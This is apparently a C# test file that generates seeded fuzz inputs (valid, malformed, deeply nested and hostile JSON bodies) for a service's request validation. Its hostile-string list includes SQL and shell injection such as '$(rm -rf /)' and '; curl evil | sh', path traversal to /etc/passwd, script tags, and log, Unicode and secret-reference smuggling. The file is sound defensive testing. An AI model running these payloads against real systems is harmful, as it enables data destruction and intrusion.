using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Berth.Tests.Requests;

/// <summary>Makes bodies of messages from a seed: right ones, nearly right ones, and ones that mean harm. The same seed and number make the same body.</summary>
internal static class RequestGenerator
{
    /// <summary>Texts that have broken programs before, one for each thing that a text of a request may get into.</summary>
    public static IReadOnlyList<string> Hostile { get; } =
    [
        "'; DROP TABLE users; --", "` OR 1=1 #", "$(rm -rf /)", "; curl evil | sh", "$.run", "$$.Execution.Id", "States.Format('{}')", "*", "?", "arn:aws:iam::*:role/*", "${iam:role/x#arn}",
        "${AWS::AccountId}", "{{resolve:ssm:x}}", "{{ssm:x}}", "secret://berth/other/database#password", "parameter-version:1", "../../etc/passwd", "a\nb", "a\r\n{\"level\":\"ERROR\"}",
        "\u001b[2J\u001b]0;title\u0007", "a\u0000b", "\ufeffprd", "\u202eprd", "рrd", "ｐｒｄ", "prd\u200b", "\ud83d\ude00", "İ", "ß", "\u2028", "-prd", "prd-", "--", "kube-system", "berth", "aws-x", "ssm",
        "default", "meta", "null", "true", "NaN", "1e999", " ", "", "\t", "<script>", "%00", "%s%n", "\\", "\"", "constructor", "__proto__", new('a', 63), new('a', 64), new('a', 5000), string.Concat(Enumerable.Repeat("a-", 400)),
        string.Concat(Enumerable.Repeat("a.", 400)),
    ];

    private static readonly string[] Numbers = ["-1", "0", "1.5", "2147483648", "9223372036854775808", "1e400", "-1e400", "1e-400", "00", "123456789012345678901234567890"];

    /// <param name="Valid">It was made to be right.</param>
    public sealed record Body(string Text, bool Valid);

    public static Body Make(int seed, int number)
    {
        var random = new Random(HashCode.Of(seed, number));
        return random.Next(8) switch
        {
            0 => new(Right(random).ToJsonString(), true),
            1 or 2 or 3 => new(WithHostile(random), false),
            4 => new(WithOtherShape(random), false),
            5 => new(Broken(random), false),
            6 => new(Deep(random), false),
            _ => new(Raw(random), false),
        };
    }

    /// <summary>A request that nothing is wrong with: names, hosts and switches differ.</summary>
    private static JsonObject Right(Random random) => random.Next(4) == 0 ? RightService(random) : RightRisken(random);

    private static JsonObject RightService(Random random)
    {
        var name = Name(random);
        var body = JsonNode.Parse(Repository.Read("events/service.json"))!.AsObject();
        body["requestId"] = $"fuzz-{random.Next(1_000_000):D8}";
        body["environment"] = name;
        var service = body["service"]!.AsObject();
        service["namespace"] = $"n{name}";
        if (random.Next(3) == 0)
            service.Remove("host");
        else
            service["host"] = $"{name}.example.com";
        service["links"] = random.Next(3) == 0 ? new JsonObject() : new JsonObject { [name] = new JsonObject { ["type"] = random.Next(2) == 0 ? "mysql" : "postgres" } };
        service["variables"] = new JsonObject { ["NAME"] = Hostile.Where(text => text.Length <= 500 && !text.Contains("${") && !text.Contains("secret://") && !text.Contains('\0')).ElementAt(random.Next(20)) };
        return body;
    }

    private static JsonObject RightRisken(Random random)
    {
        var name = Name(random);
        var body = JsonNode.Parse(Repository.Read("events/risken.json"))!.AsObject();
        body["requestId"] = $"fuzz-{random.Next(1_000_000):D8}";
        body["environment"] = name;
        var risken = body["risken"]!.AsObject();
        risken["namespace"] = $"n{name}";
        risken["consoleHost"] = $"console.{name}.example.com";
        if (random.Next(3) == 0)
            risken.Remove("accessToken");
        else
            risken["accessToken"] = new JsonObject { ["host"] = $"api.{name}.example.com", ["sourceIps"] = new JsonArray("203.0.113.0/24"), ["requireBearer"] = random.Next(2) == 0 };
        risken["parameters"] = new JsonObject { ["core"] = new JsonObject { ["NAME"] = Hostile.Where(text => text.Length is > 0 and <= 500 && !text.Contains("${") && !text.Contains("{{") && !text.Contains("secret://")
            && !text.Any(letter => char.IsControl(letter) && letter is not ('\n' or '\r' or '\t'))).ElementAt(random.Next(20)) } };
        return body;
    }

    private static string Name(Random random)
    {
        const string letters = "abcdefghijklmnopqrstuvwxyz0123456789";
        return "z" + string.Concat(Enumerable.Range(0, random.Next(1, 18)).Select(_ => letters[random.Next(letters.Length)]));
    }

    /// <summary>One field of the schema holds what it should not.</summary>
    private static string WithHostile(Random random)
    {
        var body = random.Next(2) == 0 ? SchemaFields.Full() : Right(random);
        var fields = Places(body).ToList();
        var (parent, key) = fields[random.Next(fields.Count)];
        var text = Hostile[random.Next(Hostile.Count)];
        if (parent is JsonObject renamed && random.Next(4) == 0)
        {
            var value = renamed[(string)key]?.DeepClone();
            renamed.Remove((string)key);
            renamed[text] = value;
        }
        else
            Put(parent, key, JsonValue.Create(text));
        return body.ToJsonString();
    }

    private static string WithOtherShape(Random random)
    {
        var body = random.Next(2) == 0 ? SchemaFields.Full() : Right(random);
        var fields = Places(body).ToList();
        var (parent, key) = fields[random.Next(fields.Count)];
        JsonNode? other = random.Next(7) switch
        {
            0 => null,
            1 => JsonNode.Parse(Numbers[random.Next(8)]),
            2 => new JsonArray([.. Enumerable.Range(0, random.Next(300)).Select(_ => (JsonNode)Hostile[random.Next(Hostile.Count)])]),
            3 => new JsonObject(),
            4 => JsonValue.Create(true),
            5 => new JsonArray(null, new JsonObject { ["x"] = new JsonArray() }),
            _ => new JsonObject(Enumerable.Range(0, random.Next(200)).Select(index => KeyValuePair.Create($"{Hostile[random.Next(10)]}{index}", (JsonNode?)index))),
        };
        if (random.Next(5) == 0 && parent is JsonObject fewer)
            fewer.Remove((string)key);
        else
            Put(parent, key, other);
        return body.ToJsonString();
    }

    /// <summary>Text that is nearly JSON: cut, doubled, with half characters, with a field twice.</summary>
    private static string Broken(Random random)
    {
        var text = Right(random).ToJsonString();
        var at = random.Next(text.Length);
        return random.Next(7) switch
        {
            0 => text[..at],
            1 => text + text,
            2 => "\ufeff" + text,
            3 => text.Replace("\"risken\":", "\"environment\":\"other\",\"risken\":"),
            4 => text.Replace("\"profile\":\"", "\"profile\":\"\\ud800"),
            5 => text.Replace("\"risken\":", "\"\\udc00\":1,\"risken\":"),
            _ => text.Insert(at, Numbers[random.Next(Numbers.Length)]),
        };
    }

    private static string Deep(Random random)
    {
        var depth = random.Next(1, 5000);
        var (open, close) = random.Next(2) == 0 ? ("[", "]") : ("{\"x\":", "}");
        var nested = new StringBuilder().Insert(0, open, depth).Append('1').Insert(0, "{\"schema\":\"berth/v1\",\"risken\":").ToString();
        return nested + string.Concat(Enumerable.Repeat(close, depth)) + "}";
    }

    private static string Raw(Random random) => random.Next(3) switch
    {
        0 => Hostile[random.Next(Hostile.Count)],
        1 => JsonSerializer.Serialize(Hostile[random.Next(Hostile.Count)]),
        _ => new string([.. Enumerable.Range(0, random.Next(200)).Select(_ => (char)random.Next(1, 0xffff))]),
    };

    private static IEnumerable<(JsonNode Parent, object Key)> Places(JsonNode? node)
    {
        if (node is JsonObject fields)
            foreach (var (name, value) in fields)
            {
                yield return (fields, name);
                foreach (var place in Places(value))
                    yield return place;
            }

        if (node is JsonArray items)
            for (var index = 0; index < items.Count; index++)
            {
                yield return (items, index);
                foreach (var place in Places(items[index]))
                    yield return place;
            }
    }

    private static void Put(JsonNode parent, object key, JsonNode? value)
    {
        if (key is int index)
            parent.AsArray()[index] = value;
        else
            parent.AsObject()[(string)key] = value;
    }

    private static class HashCode
    {
        /// <summary>The framework's own differs from process to process.</summary>
        public static int Of(int seed, int number) => unchecked((seed * 397) ^ (number * 7919));
    }
}
